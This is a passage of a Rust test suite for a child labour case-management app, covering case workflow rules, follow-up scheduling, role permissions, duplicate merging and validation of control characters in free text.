    let mut store = open(&dir, "device.db", SUPERVISOR);
    let alerted = |store: &Store, id: Uuid| {
        store
            .alerts(None, Page::first(50))
            .unwrap()
            .iter()
            .any(|a| a.id == id)
    };
    let c = store.create(&child(C01, "Kouamé Adjoa", MONITOR)).unwrap();
    as_role(&mut store, Role::CommunityMonitor)
        .refer_case(c.id, referral())
        .unwrap();
    as_role(&mut store, Role::CommunityMonitor)
        .transition_case_on(c.id, CaseStatus::ReceivingServices, date(2025, 10, 1))
        .unwrap();
    as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(
            c.id,
            seen(date(2025, 10, 10), FollowUpSituation::StillWorking),
        )
        .unwrap();
    for to in [CaseStatus::Withdrawn, CaseStatus::Prevented] {
        let rule = not_allowed(as_role(&mut store, Role::Supervisor).transition_case_on(
            c.id,
            to,
            date(2025, 10, 10),
        ));
        assert!(
            rule.contains("that day finds the child still working"),
            "{rule}"
        );
    }
    // Nor when a later visit found her in school (the verification typed after it).
    as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, follow_up(date(2025, 10, 20)))
        .unwrap();
    let rule = not_allowed(as_role(&mut store, Role::Supervisor).transition_case_on(
        c.id,
        CaseStatus::Withdrawn,
        date(2025, 10, 10),
    ));
    assert!(
        rule.contains("that day finds the child still working"),
        "{rule}"
    );
    let c = as_role(&mut store, Role::Supervisor)
        .transition_case_on(c.id, CaseStatus::Withdrawn, date(2025, 10, 11))
        .unwrap();
    assert!(
        !alerted(&store, c.id),
        "withdrawn since she was seen working"
    );
    // Seen working again after the verification: alerted.
    as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(
            c.id,
            seen(date(2025, 11, 2), FollowUpSituation::StillWorking),
        )
        .unwrap();
    assert!(alerted(&store, c.id));
    // Reopened, the case is referred again before it goes on: not through the old referral,
    // by a monitor's plain update either.
    let c = as_role(&mut store, Role::Supervisor)
        .transition_case(c.id, CaseStatus::Identified)
        .unwrap();
    let mut on = c.clone();
    on.status = CaseStatus::ReceivingServices;
    let rule = not_allowed(as_role(&mut store, Role::CommunityMonitor).update(&on));
    assert!(rule.contains("refer"), "{rule}");
    // Nor by an old referral re-dated into the new episode by the same write.
    let c = store.create(&child(C01, "Yao Ama", MONITOR)).unwrap();
    for day in [date(2025, 9, 10), date(2025, 9, 12)] {
        as_role(&mut store, Role::CommunityMonitor)
            .refer_case(
                c.id,
                Referral {
                    date: day,
                    ..referral()
                },
            )
            .unwrap();
    }
    for to in [CaseStatus::ReceivingServices, CaseStatus::Withdrawn] {
        as_role(&mut store, Role::Supervisor)
            .transition_case_on(c.id, to, date(2025, 10, 1))
            .unwrap();
    }
    let c = as_role(&mut store, Role::Supervisor)
        .transition_case(c.id, CaseStatus::Identified)
        .unwrap();
    let mut redated = c.clone();
    if let Some(second) = redated
        .referrals
        .values_mut()
        .find(|r| r.date == date(2025, 9, 12))
    {
        second.date = date(2025, 11, 5);
    }
    redated.status = CaseStatus::ReceivingServices;
    let rule = not_allowed(as_role(&mut store, Role::CommunityMonitor).update(&redated));
    assert!(rule.contains("refer"), "{rule}");

    // Closed on a follow-up in school after the verification; the verification re-dated after
    // it would leave the case closed on no follow-up after its verification.
    let c = remediated_case(&mut store, "Yao Akissi", date(2025, 10, 15));
    as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, follow_up(date(2026, 1, 15)))
        .unwrap();
    let c = as_role(&mut store, Role::Supervisor)
        .transition_case(c.id, CaseStatus::Closed)
        .unwrap();
    let mut redated = c.clone();
    redated.remediated_on = Some(date(2026, 2, 1));
    match as_role(&mut store, Role::Supervisor).update(&redated) {
        Err(Error::NotAllowed { rule }) => {
            assert!(rule.contains("closed only after a follow-up"), "{rule}")
        }
        other => panic!("expected the date refused, got {other:?}"),
    }
    // A correction that keeps the closure's facts is taken.
    let mut corrected = c.clone();
    corrected.remediated_on = Some(date(2025, 10, 20));
    let c = as_role(&mut store, Role::Supervisor)
        .update(&corrected)
        .unwrap();
    assert_eq!(c.remediated_on, Some(date(2025, 10, 20)));
}

#[test]
fn a_case_is_withdrawn_with_its_verification_date_and_closed_after_a_visit_finds_the_child_out_of_work()
 {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", SUPERVISOR);

    // A supervisor's plain write cannot skip the verification: referred → closed, or receiving
    // services → withdrawn or prevented, without its date.
    let c = store.create(&child(C01, "Kouamé Adjoa", MONITOR)).unwrap();
    as_role(&mut store, Role::CommunityMonitor)
        .refer_case(c.id, referral())
        .unwrap();
    let mut skip: ChildCase = store.get(c.id).unwrap();
    skip.status = CaseStatus::Closed;
    let rule = not_allowed(as_role(&mut store, Role::Supervisor).update(&skip));
    assert!(rule.contains("closed only once verified"), "{rule}");
    let c = as_role(&mut store, Role::CommunityMonitor)
        .transition_case(c.id, CaseStatus::ReceivingServices)
        .unwrap();
    for to in [
        CaseStatus::Withdrawn,
        CaseStatus::Prevented,
        CaseStatus::Closed,
    ] {
        let mut skip = c.clone();
        skip.status = to;
        let rule = not_allowed(as_role(&mut store, Role::Supervisor).update(&skip));
        assert!(rule.contains("remediated_on"), "{to:?}: {rule}");
    }
    // Verified before the referral that did it (2025-09-10): a date typed wrong, refused on the
    // field the user typed.
    let before_referral = |r: Result<ChildCase>, at: &str| match r {
        Err(Error::Validation(e)) => {
            assert_eq!(e.field, at);
            assert!(e.rule.contains("first referral"), "{}", e.rule);
        }
        other => panic!("expected the date refused, got {other:?}"),
    };
    before_referral(
        as_role(&mut store, Role::Supervisor).transition_case_on(
            c.id,
            CaseStatus::Withdrawn,
            date(2025, 9, 5),
        ),
        "remediated_on",
    );
    let mut verified = c.clone();
    verified.status = CaseStatus::Prevented;
    verified.remediated_on = Some(date(2025, 10, 15));
    let c = as_role(&mut store, Role::Supervisor)
        .update(&verified)
        .unwrap();
    assert_eq!(c.follow_up_due, Some(date(2026, 1, 15)));
    // Nor afterwards, by the verification's date or the referral's.
    let mut earlier = c.clone();
    earlier.remediated_on = Some(date(2025, 9, 2));
    before_referral(
        as_role(&mut store, Role::Supervisor).update(&earlier),
        "remediated_on",
    );
    let mut later = c.clone();
    for referral in later.referrals.values_mut() {
        referral.date = date(2025, 10, 20);
    }
    let moved = *later.referrals.keys().next().unwrap();
    before_referral(
        as_role(&mut store, Role::Supervisor).update(&later),
        &format!("referrals.{moved}.date"),
    );

    // Closing needs a follow-up after the verification day (one made that day is the
    // verification's own visit), and the latest must have seen the child out of work.
    let close = |store: &mut Store| {
        as_role(store, Role::Supervisor).transition_case(c.id, CaseStatus::Closed)
    };
    let rule = not_allowed(close(&mut store));
    assert!(rule.contains("after a follow-up"), "{rule}");
    as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, follow_up(date(2025, 10, 15)))
        .unwrap();
    not_allowed(close(&mut store));
    as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, follow_up(date(2026, 1, 15)))
        .unwrap();
    for (on, situation) in [
        (date(2026, 4, 15), FollowUpSituation::StillWorking),
        (date(2026, 4, 20), FollowUpSituation::NotFound),
    ] {
        as_role(&mut store, Role::CommunityMonitor)
            .add_follow_up(c.id, seen(on, situation))
            .unwrap();
        let rule = not_allowed(close(&mut store));
        assert!(rule.contains("latest follow-up"), "{situation:?}: {rule}");
        assert!(!rule.contains("Kouam") && !rule.contains("CASE-"), "{rule}");
    }
    // Two on the latest day, one finding the child working: not closed.
    as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, seen(date(2026, 5, 2), FollowUpSituation::InSchool))
        .unwrap();
    as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(
            c.id,
            seen(date(2026, 5, 2), FollowUpSituation::StillWorking),
        )
        .unwrap();
    not_allowed(close(&mut store));
    as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, seen(date(2026, 6, 1), FollowUpSituation::AtRisk))
        .unwrap();
    let c = close(&mut store).unwrap();
    assert_eq!(c.status, CaseStatus::Closed);
    // Nor can a later write take the verification away from a closed case, and with it what
    // its closing rested on: the case is reopened first.
    let mut unverified: ChildCase = store.get(c.id).unwrap();
    unverified.remediated_on = None;
    let rule = not_allowed(as_role(&mut store, Role::Supervisor).update(&unverified));
    assert!(
        rule.contains("closed case keeps its verification date"),
        "{rule}"
    );
    assert_eq!(
        store.get::<ChildCase>(c.id).unwrap().remediated_on,
        Some(date(2025, 10, 15))
    );

    // Nor can a write verify a case against a follow-up after its date that found the child
    // working.
    let mut other = remediated_case(&mut store, "Yao Koffi", date(2025, 10, 15));
    let (_, _) = as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(
            other.id,
            seen(date(2026, 1, 15), FollowUpSituation::StillWorking),
        )
        .unwrap();
    other = store.get(other.id).unwrap();
    other.status = CaseStatus::Closed;
    not_allowed(as_role(&mut store, Role::Supervisor).update(&other));
}

#[test]
fn a_child_found_working_again_is_reopened_and_referred() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", SUPERVISOR);
    let c = remediated_case(&mut store, "Kouamé Adjoa", date(2025, 10, 15));
    as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, follow_up(date(2026, 1, 15)))
        .unwrap();
    let c = as_role(&mut store, Role::Supervisor)
        .transition_case(c.id, CaseStatus::Closed)
        .unwrap();
    assert_eq!(c.follow_up_due, Some(date(2026, 4, 15)));

    // The monitor finds her working again: the follow-up is recorded, the case reopened by a
    // supervisor only.
    as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(
            c.id,
            seen(date(2026, 4, 15), FollowUpSituation::StillWorking),
        )
        .unwrap();
    for role in [Role::CommunityMonitor, Role::Inspector] {
        let rule =
            not_allowed(as_role(&mut store, role).transition_case(c.id, CaseStatus::Identified));
        assert!(rule.contains("only a supervisor may reopen"), "{rule}");
    }
    assert!(
        check_case_transition(CaseStatus::Closed, CaseStatus::Identified, Role::Supervisor).is_ok()
    );
    // A monitor settling a conflict between withdrawn and prevented asks no reopening: the
    // rule says which step it would take.
    let step = vigie_core::domain::rights::Step::CaseStatus {
        from: CaseStatus::Withdrawn,
        to: CaseStatus::Prevented,
        has_referral: true,
        tracking: vigie_core::domain::rights::Tracking::Verified,
    };
    let rule = vigie_core::domain::rights::check_step(Role::CommunityMonitor, Uuid::nil(), &step)
        .unwrap_err()
        .rule;
    assert!(
        rule.contains(
            "only a supervisor may make a withdrawn case prevented: the way there reopens it"
        ),
        "{rule}"
    );
    let c = as_role(&mut store, Role::Supervisor)
        .transition_case(c.id, CaseStatus::Identified)
        .unwrap();
    assert_eq!(c.status, CaseStatus::Identified);
    // Indicators count the steps the child reached: reopened, she was still referred and
    // withdrawn (a quarter already reported keeps its figures).
    let counts = store
        .indicators(&IndicatorFilter::default())
        .unwrap()
        .children;
    assert_eq!(
        (
            counts.referred,
            counts.receiving_services,
            counts.withdrawn_or_prevented
        ),
        (1, 1, 1)
    );
    // The earlier verification stays as history; the schedule waits for the next one, and
    // the case is due when its latest follow-up planned (as the due lists say).
    assert_eq!(c.remediated_on, Some(date(2025, 10, 15)));
    assert_eq!(c.follow_up_due, Some(date(2027, 4, 15)));
    assert_eq!(c.followups.len(), 2);
    // Seen again on the reopened case, with a visit planned: the record's date is the one the
    // due lists give (the schedule waits for the next verification).
    let (c, _) = as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(
            c.id,
            FollowUp {
                next_due: Some(date(2026, 5, 15)),
                ..seen(date(2026, 4, 20), FollowUpSituation::StillWorking)
            },
        )
        .unwrap();
    assert_eq!(c.follow_up_due, Some(date(2026, 5, 15)));
    let due = store
        .follow_ups_due(None, None, date(2026, 6, 1), Page::first(50))
        .unwrap();
    assert!(
        due.iter()
            .any(|d| d.id == c.id && d.due == date(2026, 5, 15)),
        "{due:?}"
    );

    // Referred again, and verified again after the day she was found working.
    let (c, _) = as_role(&mut store, Role::CommunityMonitor)
        .refer_case(c.id, referral())
        .unwrap();
    assert_eq!((c.status, c.referrals.len()), (CaseStatus::Referred, 2));
    let c = as_role(&mut store, Role::CommunityMonitor)
        .transition_case(c.id, CaseStatus::ReceivingServices)
        .unwrap();
    // The earlier verification date does not verify her again: a follow-up after it found her
    // working.
    let mut stale = c.clone();
    stale.status = CaseStatus::Withdrawn;
    let rule = not_allowed(as_role(&mut store, Role::Supervisor).update(&stale));
    assert!(rule.contains("still working"), "{rule}");
    let c = as_role(&mut store, Role::Supervisor)
        .transition_case_on(c.id, CaseStatus::Withdrawn, date(2026, 6, 1))
        .unwrap();
    assert_eq!(c.remediated_on, Some(date(2026, 6, 1)));
    assert_eq!(c.follow_up_due, Some(date(2026, 9, 1)));

    // Offline, a supervisor's one write may reopen and refer again (as a hub receives it); a
    // monitor's may not.
    let mut again: ChildCase = store.get(c.id).unwrap();
    again.status = CaseStatus::Referred;
    again.referrals.insert(Uuid::now_v7(), referral());
    not_allowed(as_role(&mut store, Role::CommunityMonitor).update(&again));
    let c = as_role(&mut store, Role::Supervisor)
        .update(&again)
        .unwrap();
    assert_eq!(c.status, CaseStatus::Referred);
}

/// The zone the test of `transition_case`'s day runs in (a child process's `TZ`).
const ZONE_ENV: &str = "VIGIE_TEST_ZONE_CHILD";

/// A verification without a day is dated by the day it is where the phone is, as the phone and
/// the hub judge its user's dates: a supervisor west of UTC verifying a child in the evening
/// (past midnight UTC) was refused "after today", and one east of it in the morning dated the
/// verification the day before. A child's 18th birthday takes her case out of the due lists on
/// that day there too. Run in a child process whose zone's day is not UTC's now.
#[test]
fn a_verification_is_dated_by_the_day_it_is_where_the_phone_is() {
    use chrono::Timelike;
    // POSIX zones, no tz database needed: UTC−12 is the day before UTC's until noon UTC,
    // UTC+14 the day after from 10:00 UTC.
    let zone = match chrono::Utc::now().hour() {
        0..=10 => "<-12>12",
        _ => "<+14>-14",
    };
    let out = std::process::Command::new(std::env::current_exe().unwrap())
        .args([
            "--exact",
            "monitoring::verification_dated_in_the_phones_zone_child",
            "--ignored",
            "--nocapture",
            "--test-threads=1",
        ])
        .env("TZ", zone)
        .env(ZONE_ENV, zone)
        .output()
        .unwrap();
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.status.success(), "{said}");
    assert!(said.contains("1 passed"), "the child ran: {said}");
}

#[test]
#[ignore = "run by a_verification_is_dated_by_the_day_it_is_where_the_phone_is"]
fn verification_dated_in_the_phones_zone_child() {
    let Ok(zone) = std::env::var(ZONE_ENV) else {
        return;
    };
    let here = chrono::Local::now().date_naive();
    assert_ne!(
        here,
        chrono::Utc::now().date_naive(),
        "the zone {zone} gives UTC's day: the test proves nothing"
    );
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", SUPERVISOR);
    let c = store.create(&child(C01, "Kouamé Adjoa", MONITOR)).unwrap();
    as_role(&mut store, Role::CommunityMonitor)
        .refer_case(c.id, referral())
        .unwrap();
    as_role(&mut store, Role::CommunityMonitor)
        .transition_case(c.id, CaseStatus::ReceivingServices)
        .unwrap();
    let c = as_role(&mut store, Role::Supervisor)
        .transition_case(c.id, CaseStatus::Withdrawn)
        .unwrap();
    assert_eq!(c.remediated_on, Some(here), "in {zone}");

    // A child turning 18 on the later of the two days leaves the overdue list on her birthday
    // where the phone is (west of UTC she is 17 here until tomorrow; east of it, 18 today).
    let utc = chrono::Utc::now().date_naive();
    let adult_on = here.max(utc);
    let late = overdue_at_17(&mut store, "Yao Koffi", adult_on, here);
    let overdue = store
        .follow_ups_due(None, None, here, Page::first(50))
        .unwrap()
        .iter()
        .any(|d| d.id == late);
    assert_eq!(
        overdue,
        here < adult_on,
        "in {zone}: 18 on {adult_on}, {here} here"
    );
}

/// A reopened case keeps its earlier referrals as history and waits to be referred again: a
/// duplicate merged into it makes it referred only with a referral made since its last
/// verification, not for the old ones (it would leave the lists of children to refer).
#[test]
fn a_duplicate_merged_into_a_reopened_case_refers_her_only_with_a_new_referral() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", SUPERVISOR);
    let c = remediated_case(&mut store, "Kouamé Adjoa", date(2025, 10, 15));
    let c = as_role(&mut store, Role::Supervisor)
        .transition_case(c.id, CaseStatus::Identified)
        .unwrap();
    assert_eq!((c.status, c.referrals.len()), (CaseStatus::Identified, 1));
    let duplicate = |store: &mut Store, referred_on: Option<NaiveDate>| {
        let d = store.create(&child(C01, "Kouamé Adjoua", MONITOR)).unwrap();
        if let Some(on) = referred_on {
            as_role(store, Role::CommunityMonitor)
                .refer_case(
                    d.id,
                    Referral {
                        date: on,
                        ..referral()
                    },
                )
                .unwrap();
        }
        d.id
    };
    let merge = |store: &mut Store, d| {
        as_role(store, Role::Supervisor)
            .merge_cases(c.id, d)
            .unwrap()
            .0
    };
    // A second registration with no referral, then one referred before her verification.
    let d = duplicate(&mut store, None);
    assert_eq!(merge(&mut store, d).status, CaseStatus::Identified);
    let d = duplicate(&mut store, Some(date(2025, 10, 1)));
    let kept = merge(&mut store, d);
    assert_eq!(
        (kept.status, kept.referrals.len()),
        (CaseStatus::Identified, 2),
        "the old referral kept, the case still to refer"
    );
    assert_eq!(
        store.get::<ChildCase>(c.id).unwrap().status,
        CaseStatus::Identified
    );
    // One a monitor referred since she was found working again: she is referred.
    let d = duplicate(&mut store, Some(date(2026, 4, 20)));
    let kept = merge(&mut store, d);
    assert_eq!(
        (kept.status, kept.referrals.len()),
        (CaseStatus::Referred, 3)
    );

    // The other way: a reopened case merged into another registration of hers, never
    // referred nor verified, brings its old referral and its verification as history; she is
    // still to be referred.
    let reopened = remediated_case(&mut store, "Yao Affoué", date(2025, 10, 15));
    as_role(&mut store, Role::Supervisor)
        .transition_case(reopened.id, CaseStatus::Identified)
        .unwrap();
    let other = store.create(&child(C01, "Yao Affoue", MONITOR)).unwrap();
    let (kept, _) = as_role(&mut store, Role::Supervisor)
        .merge_cases(other.id, reopened.id)
        .unwrap();
    assert_eq!(
        (kept.status, kept.referrals.len(), kept.remediated_on),
        (CaseStatus::Identified, 1, Some(date(2025, 10, 15)))
    );
}

#[test]
fn changing_a_recorded_follow_up_is_recording_it() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    let c = remediated_case(&mut store, "Kouamé Adjoa", date(2025, 10, 15));
    let (c, key) = as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(
            c.id,
            seen(date(2026, 1, 15), FollowUpSituation::StillWorking),
        )
        .unwrap();

    // An inspector, who may not record a follow-up, may not rewrite one either.
    let mut rewrite = c.clone();
    rewrite.followups.get_mut(&key).unwrap().situation = FollowUpSituation::InSchool;
    let rule = not_allowed(as_role(&mut store, Role::Inspector).update(&rewrite));
    assert!(rule.contains("follow-ups are recorded by"), "{rule}");
    let mut renote = c.clone();
    renote.followups.get_mut(&key).unwrap().notes = "Réécrit.".into();
    not_allowed(as_role(&mut store, Role::Inspector).update(&renote));
    // The inspector changes the case's own facts, and a referral (which any role records).
    let mut facts = c.clone();
    facts.notes = "Vue à l'inspection.".into();
    let referral_key = *facts.referrals.keys().next().unwrap();
    facts.referrals.get_mut(&referral_key).unwrap().outcome = "Inscrite.".into();
    let c = as_role(&mut store, Role::Inspector).update(&facts).unwrap();
    assert_eq!(c.followups[&key].situation, FollowUpSituation::StillWorking);

    // A monitor may correct it.
    let mut fix = c.clone();
    fix.followups.get_mut(&key).unwrap().situation = FollowUpSituation::AtRisk;
    let c = as_role(&mut store, Role::CommunityMonitor)
        .update(&fix)
        .unwrap();
    assert_eq!(c.followups[&key].situation, FollowUpSituation::AtRisk);
}

#[test]
fn no_follow_up_is_due_on_or_after_the_18th_birthday() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    // 18 on 2026-01-10, before the 3-month visit (verified 2025-10-15): nothing is planned.
    let mut c = child(C01, "Kouamé Adjoa", MONITOR);
    c.date_of_birth = Some(date(2008, 1, 10));
    let c = store.create(&c).unwrap();
    as_role(&mut store, Role::CommunityMonitor)
        .refer_case(c.id, referral())
        .unwrap();
    as_role(&mut store, Role::CommunityMonitor)
        .transition_case(c.id, CaseStatus::ReceivingServices)
        .unwrap();
    let c = as_role(&mut store, Role::Supervisor)
        .transition_case_on(c.id, CaseStatus::Withdrawn, date(2025, 10, 15))
        .unwrap();
    assert_eq!(c.follow_up_due, None);
    assert!(
        store
            .follow_ups_due(None, None, date(2030, 1, 1), Page::first(50))
            .unwrap()
            .is_empty()
    );

    // 18 on 2026-03-01 (born 29 February): the 3-month visit (2026-01-15) is due, the 6-month
    // one (2026-04-15) is not, nor one on the birthday itself.
    let mut b: ChildCase = store.get(c.id).unwrap();
    b.date_of_birth = Some(date(2008, 2, 29));
    let b = store.update(&b).unwrap();
    assert_eq!(b.follow_up_due, Some(date(2026, 1, 15)));
    let (b, key) = as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(b.id, follow_up(date(2026, 1, 15)))
        .unwrap();
    assert_eq!((b.followups[&key].next_due, b.follow_up_due), (None, None));
    let mut b: ChildCase = store.get(b.id).unwrap();
    b.date_of_birth = Some(date(2008, 4, 15));
    let mut b = store.update(&b).unwrap();
    assert_eq!(
        b.follow_up_due, None,
        "due on the 18th birthday: not planned"
    );
    b.date_of_birth = Some(date(2008, 4, 16));
    let b = store.update(&b).unwrap();
    assert_eq!(b.follow_up_due, Some(date(2026, 4, 15)));

    // Without a birth date or an estimate (a record the store would refuse), the 3- and
    // 6-month visits are planned, and no yearly one.
    let mut u = b.clone();
    u.date_of_birth = None;
    u.estimated_age = None;
    let rules = RuleSet::ilo_default();
    assert_eq!(rules.next_follow_up(&u), Some(date(2026, 4, 15)));
    u.followups
        .insert(Uuid::now_v7(), follow_up(date(2026, 4, 15)));
    assert_eq!(rules.next_follow_up(&u), None);
}

/// A case verified 150 days before `today` of a child who turns 18 on `adult_on`: its 3-month
/// visit was due 60 days ago, at 17.
fn overdue_at_17(store: &mut Store, name: &str, adult_on: NaiveDate, today: NaiveDate) -> Uuid {
    use chrono::{Days, Months};
    let mut c = child(C01, name, MONITOR);
    c.date_of_birth = adult_on.checked_sub_months(Months::new(18 * 12));
    c.identified_on = today - Days::new(400);
    let referred = Referral {
        date: today - Days::new(300),
        ..referral()
    };
    let c = remediated(store, &c, referred, today - Days::new(150));
    assert!(c.follow_up_due.is_some_and(|due| due < today), "{name}");
    c.id
}

/// A follow-up missed at 17 leaves the due and overdue lists on the child's 18th birthday, a
/// day the calendar reaches without a write, as the case's alert does: the overdue list of a
/// district went on showing an adult's case (its "age" was the age at identification).
#[test]
fn a_follow_up_missed_at_17_leaves_the_lists_on_the_18th_birthday() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    let today = chrono::Local::now().date_naive();
    let mut ids = Vec::new();
    for (name, adult_in_days) in [("Kouamé Adjoa", -10), ("Yao Koffi", 60)] {
        let adult_on = today
            .checked_add_signed(chrono::Duration::days(adult_in_days))
            .unwrap();
        ids.push(overdue_at_17(&mut store, name, adult_on, today));
    }
    let overdue: Vec<Uuid> = store
        .follow_ups_due(None, None, today, Page::first(50))
        .unwrap()
        .into_iter()
        .map(|d| d.id)
        .collect();
    assert_eq!(overdue, vec![ids[1]], "the adult's case is out of the list");
}

/// A follow-up's plan was made with the birth date known then: once the record says the
/// child turns 18 before it, a reopened case (which goes by the latest follow-up's plan) has
/// nothing due, on the phone's case and in its due list alike.
#[test]
fn a_reopened_case_plans_no_follow_up_past_the_18th_birthday_the_record_now_gives() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", SUPERVISOR);
    let c = remediated_case(&mut store, "Kouamé Adjoa", date(2025, 10, 15));
    let (c, key) = as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, follow_up(date(2026, 1, 15)))
        .unwrap();
    assert_eq!(c.followups[&key].next_due, Some(date(2026, 4, 15)));
    let mut older: ChildCase = store.get(c.id).unwrap();
    older.date_of_birth = Some(date(2008, 3, 1));
    store.update(&older).unwrap();
    let reopened = as_role(&mut store, Role::Supervisor)
        .transition_case(c.id, CaseStatus::Identified)
        .unwrap();
    assert_eq!(reopened.next_follow_up_due(), None);
    assert!(
        store
            .follow_ups_due(None, None, date(2030, 1, 1), Page::first(50))
            .unwrap()
            .is_empty()
    );
}

/// Free text is judged when it is set: a visit submitted with a NUL in its findings (as an
/// earlier version took it) is still reviewed, and a case holding one still takes its steps;
/// setting such text now is refused, naming where it is.
#[test]
fn text_held_before_the_free_text_rule_blocks_no_later_step() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "supervisor.db", SUPERVISOR);
    let w = plantation(&mut store);
    let mut v = Visit::new(VisitKind::LabourInspection, &w, MONITOR, at(2026, 3, 3, 9));
    v.status = VisitStatus::Submitted;
    let v = store.create(&v).unwrap();
    let c = store.create(&child(C01, "Aya Kouamé", MONITOR)).unwrap();
    // Written into the documents as an earlier version of the app could.
    let author = vigie_core::doc::ChangeAuthor {
        user: store.user_id(),
        device: store.device_id(),
    };
    let mut old_visit: Visit = store.get(v.id).unwrap();
    old_visit.findings = "Constat\u{0} \u{202e}évitcelé".into();
    let mut old_case: ChildCase = store.get(c.id).unwrap();
    old_case.notes = "vu\u{1b}[2J".into();
    // A task that shows nothing, which an earlier version took: it holds back no edit that
    // leaves it so (a referral, below).
    old_case.tasks.insert("\u{200b}".into());
    fn write_as_before<R: Record>(
        store: &mut Store,
        record: &R,
        author: &vigie_core::doc::ChangeAuthor,
    ) {
        let id = record.id();
        let mut document = automerge::Automerge::load(&store.export_document(id).unwrap())
            .unwrap()
            .with_actor(store.actor().clone());
        vigie_core::doc::write_record(&mut document, record, author).unwrap();
        store.merge_document(id, &document.save()).unwrap();
    }
    write_as_before(&mut store, &old_visit, &author);
    write_as_before(&mut store, &old_case, &author);
    let reviewed = as_role(&mut store, Role::Supervisor)
        .review_visit(
            v.id,
            Review::Return {
                comment: "Précisez les âges.".into(),
            },
        )
        .unwrap();
    assert_eq!(reviewed.status, VisitStatus::Returned);
    assert_eq!(reviewed.findings, "Constat\u{0} \u{202e}évitcelé");
    as_role(&mut store, Role::Supervisor)
        .refer_case(c.id, referral())
        .unwrap();
    // Nor a merge that brings such text to the case kept with the follow-up that holds it.
    let mut again = store.create(&child(C01, "Kouamé Aya", MONITOR)).unwrap();
    let key = Uuid::now_v7();
    let mut seen = FollowUp::new(date(2026, 3, 4), FollowUpSituation::InSchool, None);
    seen.notes = "vue\u{7}".into();
    again.followups.insert(key, seen);
    write_as_before(&mut store, &again, &author);
    let (kept, _) = as_role(&mut store, Role::Supervisor)
        .merge_cases(c.id, again.id)
        .unwrap();
    assert_eq!(kept.followups[&key].notes, "vue\u{7}");
    // Text set now is judged, and the refusal says where the character is.
    let mut case: ChildCase = store.get(c.id).unwrap();
    case.notes = "Vue le 3 mars\u{2028}à l'école\u{feff}".into();
    match as_role(&mut store, Role::Supervisor).update(&case) {
        Err(Error::Validation(e)) => {
            assert_eq!(e.field, "notes");
            assert!(e.rule.ends_with("the first is character 24"), "{}", e.rule);
        }
        other => panic!("{other:?}"),
    }
    // A line separator pasted from a document is a line break.
    case.notes = "Vue le 3 mars\u{2028}à l'école".into();
    as_role(&mut store, Role::Supervisor).update(&case).unwrap();
}

#[test]
fn supervisors_validate_or_return_submitted_visits() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "supervisor.db", SUPERVISOR);
    let w = plantation(&mut store);
    let draft = store
        .create(&Visit::new(
            VisitKind::LabourInspection,
            &w,
            MONITOR,
            at(2026, 3, 2, 9),
        ))
        .unwrap();
    // The monitor's visit as their phone submitted it (a visit is submitted by its visitor).
    let mut v = Visit::new(VisitKind::LabourInspection, &w, MONITOR, at(2026, 3, 3, 9));
    v.status = VisitStatus::Submitted;
    let v = store.create(&v).unwrap();
    let rule =
        not_allowed(as_role(&mut store, Role::Supervisor).review_visit(draft.id, Review::Validate));
    assert!(
        rule.contains("submitted"),
        "a draft is not reviewed: {rule}"
    );
    // Nor submitted by anyone but its visitor.
    let rule = not_allowed(as_role(&mut store, Role::Supervisor).submit_visit(draft.id));
    assert!(rule.contains("its visitor"), "{rule}");

    for role in [Role::Inspector, Role::CommunityMonitor] {
        not_allowed(as_role(&mut store, role).review_visit(v.id, Review::Validate));
    }
    // Nor one whose comment shows nothing.
    for blank in ["  ", "\u{200b}", " \u{3164} "] {
        match as_role(&mut store, Role::Supervisor).review_visit(
            v.id,
            Review::Return {
                comment: blank.into(),
            },
        ) {
            Err(Error::Validation(e)) => assert_eq!(e.field, "review_comment"),
            other => panic!("a return without comment gave {other:?}"),
        }
    }
    let v = as_role(&mut store, Role::Supervisor)
        .review_visit(
            v.id,
            Review::Return {
                comment: "Compléter la main-d'œuvre par âge.".into(),
            },
        )
        .unwrap();
    assert_eq!(v.status, VisitStatus::Returned);
    assert_eq!(v.review_comment, "Compléter la main-d'œuvre par âge.");
    assert_eq!(v.reviewed_by, Some(SUPERVISOR));
    // Its reviewer stays named: a supervisor's plain update clearing it is refused.
    let mut unnamed = v.clone();
    unnamed.reviewed_by = None;
    let rule = not_allowed(as_role(&mut store, Role::Supervisor).update(&unnamed));
    assert!(rule.contains("keeps its reviewer"), "{rule}");

    // Corrected and submitted again by its visitor, not by the supervisor; a returned visit
    // is not validated.
    let mut resubmitted = v.clone();
    resubmitted.status = VisitStatus::Submitted;
    let rule = not_allowed(store.update(&resubmitted));
    assert!(rule.contains("its visitor"), "{rule}");
    not_allowed(as_role(&mut store, Role::Supervisor).review_visit(v.id, Review::Validate));
}

#[test]
fn workflow_errors_name_rules_never_personal_data() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
